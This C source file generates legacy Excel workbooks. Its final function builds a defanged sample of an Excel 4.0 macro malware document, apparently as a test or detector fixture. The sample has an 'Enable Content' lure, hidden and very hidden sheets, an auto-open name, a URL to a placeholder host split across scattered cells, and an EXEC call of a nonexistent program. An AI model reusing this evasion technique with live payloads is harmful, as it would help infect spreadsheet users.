#include "make/xls.h"

#include "base/text.h"
#include "make/cfb.h"

#define RECORD_MOST 8224
#define STREAM_MOST (4u << 20)

static void put_record(sk_buf *b, unsigned id, sk_bytes data)
{
    make_u16(b, id);
    make_u16(b, (unsigned)data.len);
    sk_buf_bytes(b, data);
}

static sk_buf scratch(sk_arena *a) { return sk_buf_new(a, STREAM_MOST); }

static void put_bof(sk_arena *a, sk_buf *b, unsigned type)
{
    sk_buf d = scratch(a);
    make_u16(&d, 0x0600);
    make_u16(&d, type);
    make_u32(&d, 0x07CC0DBB);
    make_u64(&d, 0x00000006000000C1);
    put_record(b, 0x0809, sk_buf_view(&d));
}

static unsigned char_count(sk_arena *a, const char *text)
{
    sk_buf d = scratch(a);
    make_utf16(&d, text);
    return (unsigned)(d.len / 2);
}

/* flags and characters; ASCII text may be narrow. */
static void put_chars(sk_buf *d, const char *text, bool wide)
{
    make_u8(d, wide);
    if (wide)
        make_utf16(d, text);
    else
        sk_buf_str(d, text);
}

static bool needs_wide(const char *text)
{
    for (; *text; text++)
        if ((unsigned char)*text >= 0x80) return true;
    return false;
}

/* --- globals --- */

static void put_lock(sk_arena *a, sk_buf *b, unsigned lock)
{
    sk_buf d = scratch(a);
    make_u16(&d, lock > 1);
    make_u16(&d, lock == 2 ? 1 : lock == 3 ? 2 : 0x1234);
    make_u16(&d, lock == 2 ? 1 : 2);
    make_zeros(&d, 48);
    put_record(b, 0x002F, sk_slice(sk_buf_view(&d), 0, lock == 1 ? 6 : d.len));
}

static void put_boundsheet(sk_arena *a, sk_buf *b, const make_xls_sheet *s)
{
    sk_buf d = scratch(a);
    make_u32(&d, 0);
    make_u8(&d, s->state);
    make_u8(&d, s->type);
    make_u8(&d, char_count(a, s->name));
    put_chars(&d, s->name, needs_wide(s->name));
    put_record(b, 0x0085, sk_buf_view(&d));
}

static void put_links(sk_arena *a, sk_buf *b, const make_xls *x)
{
    sk_buf d = scratch(a);
    make_u16(&d, (unsigned)x->sheet_count);
    make_u16(&d, 0x0401);
    put_record(b, 0x01AE, sk_buf_view(&d));
    if (x->dde) {
        sk_buf book = scratch(a), name = scratch(a);
        make_u16(&book, 0);
        make_u16(&book, char_count(a, x->dde));
        make_u8(&book, 0);
        for (const char *c = x->dde; *c; c++) make_u8(&book, *c == '|' ? 3u : (unsigned char)*c);
        put_record(b, 0x01AE, sk_buf_view(&book));
        make_u16(&name, 0x7FE2);
        make_u32(&name, 0);
        make_u8(&name, 2);
        put_chars(&name, "A0", false);
        put_record(b, 0x0023, sk_buf_view(&name));
    }
    sk_buf table = scratch(a);
    make_u16(&table, (unsigned)x->sheet_count + (x->dde != NULL));
    for (unsigned i = 0; i < x->sheet_count; i++) {
        make_u16(&table, 0);
        make_u16(&table, i);
        make_u16(&table, i);
    }
    if (x->dde) {
        make_u16(&table, 1);
        make_u32(&table, 0xFFFEFFFE);
    }
    put_record(b, 0x0017, sk_buf_view(&table));
}

static void put_name(sk_arena *a, sk_buf *b, const make_xls_name *n)
{
    sk_buf d = scratch(a);
    make_u16(&d, (n->hidden ? 1u : 0) | (n->name ? 0 : 0x20u));
    make_u8(&d, 0);
    make_u8(&d, n->name ? char_count(a, n->name) : 1);
    make_u16(&d, (unsigned)n->tokens.len);
    make_zeros(&d, 8);
    bool wide = n->name && needs_wide(n->name);
    if (n->name) {
        put_chars(&d, n->name, wide);
    } else {
        make_u8(&d, 0);
        make_u8(&d, n->builtin);
    }
    sk_buf_bytes(&d, n->tokens);
    put_record(b, 0x0018, sk_buf_view(&d));
}

/* --- looks --- */

#define PLAIN_FORMATS 16 /* 15 of styles, and that of plain cells */

static void put_font(sk_arena *a, sk_buf *b, const make_xls_look *l)
{
    sk_buf d = scratch(a);
    make_u16(&d, l->twips);
    make_u16(&d, l->italic ? 2 : 0);
    make_u16(&d, l->colour ? l->colour : 0x7FFF);
    make_u16(&d, l->bold ? 700 : 400);
    make_zeros(&d, 6);
    make_u8(&d, char_count(a, l->font));
    put_chars(&d, l->font, false);
    put_record(b, 0x0031, sk_buf_view(&d));
}

static void put_format(sk_arena *a, sk_buf *b, unsigned font, unsigned number, const make_xls_look *l, bool style)
{
    sk_buf d = scratch(a);
    make_u16(&d, font);
    make_u16(&d, number);
    make_u16(&d, style ? 0xFFF5 : 1);
    make_u8(&d, 0x20u | (l ? l->horizontal : 0));
    make_zeros(&d, 3);
    make_u32(&d, 0);
    make_u32(&d, l && l->fill ? 1u << 26 : 0);
    make_u16(&d, (l && l->fill ? l->fill : 64u) | 65u << 7);
    put_record(b, 0x00E0, sk_buf_view(&d));
}

/* Fonts count 0 to 3, then from 5 on; numbers of formats of one's own from 164 on. */
static void put_looks(sk_arena *a, sk_buf *b, const make_xls *x)
{
    static const make_xls_look plain = {.font = "Arial", .twips = 200};
    static const uint8_t normal[] = {0x00, 0x80, 0x00, 0xFF};
    for (size_t i = 0; i < 4; i++) put_font(a, b, &plain);
    for (size_t i = 0; i < x->look_count; i++) put_font(a, b, &x->looks[i]);
    for (size_t i = 0; i < x->look_count; i++) {
        sk_buf d = scratch(a);
        if (!x->looks[i].number) continue;
        make_u16(&d, (unsigned)(164 + i));
        make_u16(&d, char_count(a, x->looks[i].number));
        put_chars(&d, x->looks[i].number, false);
        put_record(b, 0x041E, sk_buf_view(&d));
    }
    for (size_t i = 0; i < PLAIN_FORMATS; i++) put_format(a, b, 0, 0, NULL, i + 1 < PLAIN_FORMATS);
    for (size_t i = 0; i < x->look_count; i++)
        put_format(a, b, (unsigned)(5 + i), x->looks[i].number ? (unsigned)(164 + i) : 0, &x->looks[i], false);
    put_record(b, 0x0293, sk_bytes_of(normal, sizeof normal));
}

static void put_sizes(sk_arena *a, sk_buf *b, const make_xls_sheet *s)
{
    for (size_t i = 0; i < s->column_count; i++) {
        sk_buf d = scratch(a);
        make_u16(&d, s->columns[i].first);
        make_u16(&d, s->columns[i].last);
        make_u16(&d, s->columns[i].width);
        make_u16(&d, 15);
        make_u32(&d, 0);
        put_record(b, 0x007D, sk_buf_view(&d));
    }
    for (size_t i = 0; i < s->row_count; i++) {
        sk_buf d = scratch(a);
        make_u16(&d, s->rows[i].row);
        make_u16(&d, 0);
        make_u16(&d, 1);
        make_u16(&d, s->rows[i].twips);
        make_u32(&d, 0);
        make_u32(&d, 0x40u | (s->rows[i].hidden ? 0x20u : 0));
        put_record(b, 0x0208, sk_buf_view(&d));
    }
}

/* The shared strings, split where the record is full; inside a string a continuation begins with its flags. */
struct strings {
    sk_buf *out;
    sk_buf record;
    unsigned id;
    size_t most;
};

static void end_record(struct strings *s)
{
    put_record(s->out, s->id, sk_buf_view(&s->record));
    s->record.len = 0;
    s->id = 0x003C;
}

static void put_string(struct strings *s, const char *text, bool wide)
{
    sk_buf chars = scratch(s->out->arena);
    if (wide)
        make_utf16(&chars, text);
    else
        sk_buf_str(&chars, text);
    size_t each = wide ? 2 : 1;
    if (s->record.len + 3 > s->most) end_record(s);
    make_u16(&s->record, (unsigned)(chars.len / each));
    make_u8(&s->record, wide);
    for (size_t i = 0; i < chars.len; i += each) {
        if (s->record.len + each > s->most) {
            end_record(s);
            make_u8(&s->record, wide);
        }
        sk_buf_bytes(&s->record, sk_slice(sk_buf_view(&chars), i, each));
    }
}

static bool is_shared(const make_xls_cell *c) { return c->text && c->tokens.len == 0; }

static void put_strings(sk_arena *a, sk_buf *b, const make_xls *x)
{
    struct strings s = {.out = b, .record = scratch(a), .id = 0x00FC, .most = x->split ? x->split : RECORD_MOST};
    uint32_t count = 0;
    for (size_t i = 0; i < x->sheet_count; i++)
        for (size_t k = 0; k < x->sheets[i].cell_count; k++) count += is_shared(&x->sheets[i].cells[k]);
    make_u32(&s.record, count);
    make_u32(&s.record, count);
    for (size_t i = 0; i < x->sheet_count; i++)
        for (size_t k = 0; k < x->sheets[i].cell_count; k++) {
            const make_xls_cell *c = &x->sheets[i].cells[k];
            if (is_shared(c)) put_string(&s, c->text, x->wide || needs_wide(c->text));
        }
    end_record(&s);
}

/* --- sheets --- */

static void put_cell(sk_arena *a, sk_buf *b, const make_xls_cell *c, uint32_t *shared)
{
    sk_buf d = scratch(a);
    union {
        double v;
        uint64_t bits;
    } u = {.v = c->number};
    make_u16(&d, c->row);
    make_u16(&d, c->column);
    make_u16(&d, 15 + c->look);
    if (c->blank) {
        put_record(b, 0x0201, sk_buf_view(&d));
        return;
    }
    if (is_shared(c)) {
        make_u32(&d, (*shared)++);
        put_record(b, 0x00FD, sk_buf_view(&d));
        return;
    }
    make_u64(&d, c->tokens.len && c->text ? 0xFFFF000000000000u : u.bits);
    if (c->tokens.len) {
        make_u16(&d, 0);
        make_u32(&d, 0);
        make_u16(&d, (unsigned)c->tokens.len);
        sk_buf_bytes(&d, c->tokens);
    }
    put_record(b, c->tokens.len ? 0x0006 : 0x0203, sk_buf_view(&d));
    if (!c->tokens.len || !c->text) return;
    sk_buf text = scratch(a);
    make_u16(&text, char_count(a, c->text));
    put_chars(&text, c->text, true);
    put_record(b, 0x0207, sk_buf_view(&text));
}

/* An object of type note, and the record with its text, which stands in a continuation. */
static void put_note(sk_arena *a, sk_buf *b, const char *note)
{
    sk_buf object = scratch(a), text = scratch(a), chars = scratch(a);
    make_u16(&object, 0x15);
    make_u16(&object, 0x12);
    make_u16(&object, 0x19);
    make_u16(&object, 1);
    make_zeros(&object, 18);
    put_record(b, 0x005D, sk_buf_view(&object));
    make_zeros(&text, 10);
    make_u16(&text, char_count(a, note));
    make_zeros(&text, 6);
    put_record(b, 0x01B6, sk_buf_view(&text));
    put_chars(&chars, note, true);
    put_record(b, 0x003C, sk_buf_view(&chars));
}

static void put_hyperlink(sk_arena *a, sk_buf *b, const char *url)
{
    static const uint8_t link[16] = {0xD0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
                                     0x8C, 0x82, 0,    0xAA, 0,    0x4B, 0xA9, 0x0B};
    static const uint8_t moniker[16] = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
                                        0x8C, 0x82, 0,    0xAA, 0,    0x4B, 0xA9, 0x0B};
    sk_buf d = scratch(a), utf16 = scratch(a);
    make_zeros(&d, 8);
    sk_buf_bytes(&d, sk_bytes_of(link, 16));
    make_u32(&d, 2);
    make_u32(&d, 3);
    sk_buf_bytes(&d, sk_bytes_of(moniker, 16));
    make_utf16(&utf16, url);
    make_u16(&utf16, 0);
    make_u32(&d, (uint32_t)utf16.len);
    sk_buf_bytes(&d, sk_buf_view(&utf16));
    put_record(b, 0x01B8, sk_buf_view(&d));
}

static void put_sheet(sk_arena *a, sk_buf *b, const make_xls_sheet *s, uint32_t *shared)
{
    put_bof(a, b, s->type == 1 ? 0x0040 : 0x0010);
    put_sizes(a, b, s);
    for (size_t i = 0; i < s->cell_count; i++) put_cell(a, b, &s->cells[i], shared);
    if (s->note) put_note(a, b, s->note);
    if (s->link) put_hyperlink(a, b, s->link);
    put_record(b, 0x000A, (sk_bytes){NULL, 0});
}

sk_bytes make_xls_stream(sk_arena *a, const make_xls *x)
{
    sk_buf b = scratch(a);
    size_t *places = SK_NEW_ARRAY(a, size_t, x->sheet_count + 1);
    uint32_t shared = 0;
    if (!places) return (sk_bytes){NULL, 0};
    put_bof(a, &b, 0x0005);
    if (x->lock) put_lock(a, &b, x->lock);
    put_record(&b, 0x0042, SK_LIT("\xB0\x04"));
    if (x->project) put_record(&b, 0x00D3, (sk_bytes){NULL, 0});
    if (x->looks) put_looks(a, &b, x);
    for (size_t i = 0; i < x->sheet_count; i++) {
        places[i] = b.len + 4;
        put_boundsheet(a, &b, &x->sheets[i]);
    }
    put_links(a, &b, x);
    for (size_t i = 0; i < x->name_count; i++) put_name(a, &b, &x->names[i]);
    put_strings(a, &b, x);
    put_record(&b, 0x000A, (sk_bytes){NULL, 0});
    for (size_t i = 0; i < x->sheet_count; i++) {
        make_patch_u32(&b, places[i], (uint32_t)b.len);
        put_sheet(a, &b, &x->sheets[i], &shared);
    }
    return b.full ? (sk_bytes){NULL, 0} : sk_buf_view(&b);
}

sk_bytes make_xls_file(sk_arena *a, const make_xls *x)
{
    static const uint8_t clsid[16] = {0x20, 0x08, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
    make_cfb *c = make_cfb_new(a, 3);
    sk_bytes stream = make_xls_stream(a, x);
    if (!c || !stream.len) return (sk_bytes){NULL, 0};
    make_cfb_clsid(c, 0, clsid);
    (void)make_cfb_put(c, "Workbook", stream);
    return make_cfb_finish(c);
}

/* --- the sample --- */

sk_bytes make_xls_2022(sk_arena *a)
{
    make_tokens open = make_tokens_new(a, SK_PTG_BIFF8), url = open, run = open, halt = open;
    make_ptg_ref_sheet(&open, 2, 0, 5);
    for (unsigned i = 0; i < 4; i++) make_ptg_ref_sheet(&url, 1, 10 + 7 * i, 3 + i); /* pieces in far-off cells */
    make_ptg_int(&url, 47);
    make_ptg_function(&url, "CHAR");
    make_ptg_ref_sheet(&url, 1, 90, 30);
    make_ptg_call(&url, "CONCATENATE", 6);
    make_ptg_string(&run, "no-such-program ");
    make_ptg_ref(&run, 0, 5);
    make_ptg(&run, 0x08);
    make_ptg_call(&run, "EXEC", 1);
    make_ptg_call(&halt, "HALT", 0);
    make_xls_cell lure[] = {
        {.row = 1, .column = 1, .text = "This document is protected."},
        {.row = 2, .column = 1, .text = "Press \"Enable Editing\" and then \"Enable Content\" above."}};
    make_xls_cell pieces[] = {{.row = 10, .column = 3, .text = "http"},
                              {.row = 17, .column = 4, .text = "://down"},
                              {.row = 24, .column = 5, .text = "load.exa"},
                              {.row = 31, .column = 6, .text = "mple"},
                              {.row = 90, .column = 30, .text = "wp-content/inert.txt"}};
    make_xls_cell macro[] = {{.row = 0,
                              .column = 5,
                              .tokens = make_tokens_view(&url),
                              .text = "http://download.example/wp-content/inert.txt"},
                             {.row = 1, .column = 5, .tokens = make_tokens_view(&run)},
                             {.row = 2, .column = 5, .tokens = make_tokens_view(&halt)}};
    make_xls_sheet sheets[] = {{.name = "Sheet1", .cells = lure, .cell_count = 2},
                               {.name = "Srieifew1", .state = 1, .cells = pieces, .cell_count = 5},
                               {.name = "EFWFSFG", .type = 1, .state = 2, .cells = macro, .cell_count = 3}};
    make_xls_name names[] = {{.builtin = 1, .hidden = true, .tokens = make_tokens_view(&open)}};
    return make_xls_file(a, &(make_xls){.sheets = sheets, .sheet_count = 3, .names = names, .name_count = 1});
}
